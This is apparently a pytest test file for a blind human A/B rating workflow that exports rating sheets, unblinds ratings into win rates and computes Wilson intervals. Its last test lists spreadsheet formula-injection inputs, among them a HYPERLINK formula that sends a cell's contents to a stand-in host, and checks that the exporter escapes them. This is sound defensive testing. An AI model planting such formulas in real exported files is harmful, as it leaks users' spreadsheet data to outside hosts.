"""Human A/B: a blind, seeded sheet out; ratings in, unblinded into win rates with intervals."""

from __future__ import annotations

import csv
import json
import math
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from dataforge.errors import InputError
from dataforge.eval.ab import export_ab, import_ab, wilson
from dataforge.eval.metrics import GenerationScoring
from dataforge.eval.predictions import score_predictions

FIXTURES = Path(__file__).parent / "fixtures"


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    root = tmp_path_factory.mktemp("ab")
    base = score_predictions(FIXTURES / "base_predictions.jsonl", None, GenerationScoring(), out=root / "base")
    tuned = score_predictions(FIXTURES / "tuned_predictions.csv",
                              {"prompt": "question", "prediction": "answer", "reference": "gold"},
                              GenerationScoring(), out=root / "tuned")
    return base, tuned


def _sheet(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def _fill(sheet_path, key_path, out, choose):
    """Write a rater's copy of the sheet; choose(item, side_of_output_1) -> '1' | '2' | 'tie' | ''."""
    key = json.loads(Path(key_path).read_text())["items"]
    rows = _sheet(sheet_path)
    for row in rows:
        row["preference"] = choose(row["item"], key[row["item"]]["output_1"])
    with open(out, "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return out


def test_the_sheet_is_blind_seeded_and_flips_sides(runs, tmp_path):
    base, tuned = runs
    a = export_ab(base, tuned, tmp_path / "a", seed=3)
    b = export_ab(base, tuned, tmp_path / "b", seed=3)
    c = export_ab(base, tuned, tmp_path / "c", seed=4)
    assert a.n_items == 20
    assert a.sheet_csv.read_bytes() == b.sheet_csv.read_bytes()
    assert a.sheet_csv.read_bytes() != c.sheet_csv.read_bytes()
    rows = _sheet(a.sheet_csv)
    assert list(rows[0]) == ["item", "task", "prompt", "reference", "output_1", "output_2", "preference", "comment"]
    text = a.sheet_csv.read_text(encoding="utf-8-sig") + a.sheet_html.read_text(encoding="utf-8")
    assert "tuned" not in text.lower() and "base_predictions" not in text
    sides = [v["output_1"] for v in json.loads(a.key.read_text())["items"].values()]
    assert 0 < sides.count("tuned") < 20
    tuned_preds = {r["prediction"] for r in map(json.loads, _tuned_rows(tuned))}
    key = json.loads(a.key.read_text())["items"]
    for row in rows:
        shown = row["output_1"] if key[row["item"]]["output_1"] == "tuned" else row["output_2"]
        assert shown in tuned_preds
    assert "<table>" in a.sheet_html.read_text(encoding="utf-8")


def _tuned_rows(results_dir):
    return (Path(results_dir) / "samples" / "predictions.jsonl").read_text().splitlines()


def test_max_items_takes_a_seeded_sample(runs, tmp_path):
    out = export_ab(*runs, tmp_path / "s", seed=1, max_items=5, show_reference=False)
    rows = _sheet(out.sheet_csv)
    assert len(rows) == 5 and all(r["reference"] == "" for r in rows)


def test_ratings_unblind_into_win_rates(runs, tmp_path):
    out = export_ab(*runs, tmp_path / "x", seed=0)
    items = sorted(json.loads(out.key.read_text())["items"])
    prefer_tuned = {i: "tuned" for i in items[:12]} | {i: "tie" for i in items[12:16]} | {i: "base" for i in items[16:19]}

    def rater(item, first):
        want = prefer_tuned.get(item)
        if want is None:
            return ""
        if want == "tie":
            return "tie"
        return "1" if first == want else "2"

    res = import_ab([_fill(out.sheet_csv, out.key, tmp_path / "alice.csv", rater)], out.key, seed=0)
    w = res.overall
    assert (w.tuned_wins, w.ties, w.base_wins, w.n_ratings, res.unrated) == (12, 4, 3, 19, 1)
    assert w.win_rate == pytest.approx((12 + 2) / 19)
    assert w.ci_low < w.win_rate < w.ci_high
    assert w.decisive_win_rate == pytest.approx(12 / 15)
    assert (w.decisive_ci_low, w.decisive_ci_high) == pytest.approx(wilson(12, 15))
    assert res.raters == ["alice"] and res.agreement is None


def test_two_raters_are_pooled_by_item_with_their_agreement(runs, tmp_path):
    out = export_ab(*runs, tmp_path / "y", seed=0)
    items = sorted(json.loads(out.key.read_text())["items"])
    always_tuned = _fill(out.sheet_csv, out.key, tmp_path / "r1.csv", lambda i, first: "1" if first == "tuned" else "2")
    half = set(items[:10])
    mixed = _fill(out.sheet_csv, out.key, tmp_path / "r2.csv",
                  lambda i, first: ("1" if first == "tuned" else "2") if i in half else "tie")
    res = import_ab([always_tuned, mixed], out.key, seed=0)
    assert res.overall.n_items == 20 and res.overall.n_ratings == 40
    assert res.overall.win_rate == pytest.approx((20 + 10 + 5) / 40)
    assert res.agreement == pytest.approx(0.5)


def test_wilson_interval_matches_the_formula():
    lo, hi = wilson(8, 10)
    z, p, n = 1.959963984540054, 0.8, 10
    centre = (p + z * z / (2 * n)) / (1 + z * z / n)
    half = z * math.sqrt(p * (1 - p) / n + z * z / (4 * n * n)) / (1 + z * z / n)
    assert (lo, hi) == pytest.approx((centre - half, centre + half))


def test_bad_ratings_name_the_file_line_and_field(runs, tmp_path):
    out = export_ab(*runs, tmp_path / "z", seed=0)
    bad = _fill(out.sheet_csv, out.key, tmp_path / "bad.csv", lambda i, first: "left")
    with pytest.raises(InputError, match=r"bad.csv:\d+: field 'preference': 'left' is not a rating"):
        import_ab([bad], out.key)
    rows = _sheet(out.sheet_csv)
    rows[3]["item"] = "ab-9999"
    other = tmp_path / "other.csv"
    with open(other, "w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with pytest.raises(InputError, match="unknown item 'ab-9999'"):
        import_ab([other], out.key)
    with pytest.raises(InputError, match="not an A/B key"):
        import_ab([other], Path(runs[0]) / "manifest.json")
    with pytest.raises(InputError, match=r"ab_sheet.html:1: not valid JSON"):
        import_ab([other], out.sheet_html)


def test_import_ab_command_finds_the_key_beside_the_ratings(runs, tmp_path):
    out = export_ab(*runs, tmp_path / "x", seed=0)
    filled = _fill(out.sheet_csv, out.key, out.sheet_csv.parent / "bob.csv", lambda item, first: "tie")
    cmd = [sys.executable, "-m", "dataforge", "import-ab", str(filled), "--n-boot", "200"]
    env = {**os.environ, "COLUMNS": "200"}
    ok = subprocess.run(cmd, capture_output=True, text=True, env=env)
    assert ok.returncode == 0, ok.stderr
    assert re.search(r"│ all\s*│\s*\d+ │\s*\d+ │\s*0 / 0 / \d+ / 0 │\s*0\.5 ", ok.stdout)
    elsewhere = tmp_path / "bob.csv"
    elsewhere.write_bytes(filled.read_bytes())
    missing = subprocess.run([*cmd[:4], str(elsewhere)], capture_output=True, text=True, env=env)
    assert missing.returncode == 2 and "no ab_key.json beside the ratings" in missing.stderr
    assert "Traceback" not in missing.stderr


FORMULAS = ['=HYPERLINK("http://example.invalid/?q="&A1,"open")', "+1+2", "-3 degrees overnight", "@SUM(A1:A9)",
            "\tindented answer", "\rcarriage return first", "'=already quoted", "'plain quote", "plain answer"]


def test_the_sheet_escapes_formula_cells_and_reads_them_back_exactly(tmp_path):
    from dataforge.eval.ab import read_sheet, unescape_cell

    for name, suffix in (("base", "b"), ("tuned", "t")):
        rows = [{"prompt": f"Question {i}: what is the reading?", "prediction": f"{text} ({suffix})" if i % 2 else text,
                 "reference": FORMULAS[-1 - i]} for i, text in enumerate(FORMULAS)]
        (tmp_path / f"{name}.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
        score_predictions(tmp_path / f"{name}.jsonl", None, GenerationScoring(), out=tmp_path / name)
    out = export_ab(tmp_path / "base", tmp_path / "tuned", tmp_path / "ab", seed=0)
    with open(out.sheet_csv, encoding="utf-8-sig", newline="") as f:
        raw = list(csv.DictReader(f))
    cells = [row[c] for row in raw for c in ("reference", "output_1", "output_2")]
    assert len(cells) == 3 * len(FORMULAS)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # nothing a spreadsheet would run
    assert {c for c in cells if c.startswith("'")} >= {"'" + f for f in FORMULAS if f != "plain answer"}

    key = json.loads(out.key.read_text())["items"]
    preds = {name: {json.loads(line)["prompt"]: json.loads(line)["prediction"]
                    for line in (tmp_path / f"{name}.jsonl").read_text().splitlines()} for name in ("base", "tuned")}
    _, rows = read_sheet(out.sheet_csv)
    for _, row in rows:
        first = key[row["item"]]["output_1"]
        second = "base" if first == "tuned" else "tuned"
        assert row["output_1"] == preds[first][row["prompt"]] and row["output_2"] == preds[second][row["prompt"]]
    assert [unescape_cell(c) for c in cells] == [row[c] for _, row in rows for c in ("reference", "output_1", "output_2")]
    filled = _fill(out.sheet_csv, out.key, tmp_path / "carol.csv", lambda item, first: "1")
    assert import_ab([filled], out.key, seed=0, n_boot=50).overall.n_ratings == len(FORMULAS)
